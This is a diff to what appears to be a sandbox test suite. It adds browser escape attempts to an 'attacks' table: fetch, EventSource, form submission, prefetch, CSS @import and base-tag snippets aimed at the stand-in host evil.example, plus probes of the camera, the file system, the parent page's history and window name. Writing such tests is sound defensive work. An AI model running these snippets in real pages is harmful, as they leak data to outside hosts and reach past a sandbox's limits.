@@ -16,6 +16,25 @@ const attacks = {
   'ask another site': "await fetch('https://evil.example/')",
   'ask by a socket':
     "await new Promise((ok, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: ok, onerror: no }))",
+  'ask by events':
+    "await new Promise((ok, no) => Object.assign(new EventSource('https://evil.example/'), { onopen: ok, onerror: no }))",
+  'ask another browser': 'new RTCPeerConnection()',
+  'send a form':
+    "const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target: '_top' }); document.body.append(f); f.submit(); throw 0",
+  'prefetch a page':
+    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://evil.example/' })); throw 0",
+  'import a style sheet':
+    "document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(https://evil.example/a.css)' })); throw 0",
+  'change the base of links':
+    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })); if (document.baseURI.includes('evil')) return; throw 0",
+  'share a worker': "new SharedWorker(URL.createObjectURL(new Blob([''])))",
+  'load a paint worklet': "await CSS.paintWorklet.addModule('data:text/javascript,1')",
+  'read the name of the window': 'top.name',
+  'change the history of the page': "parent.history.replaceState(null, '', '/taken')",
+  'open the file system': 'await navigator.storage.getDirectory()',
+  'lock other tabs out': "await navigator.locks.request('x', () => 1)",
+  'fill the screen': 'await document.documentElement.requestFullscreen()',
+  'see the camera': 'await navigator.mediaDevices.getUserMedia({ video: true })',
   'ask by an image':
     "await new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no }).src = '/favicon.ico')",
   // Detected outside the frame.
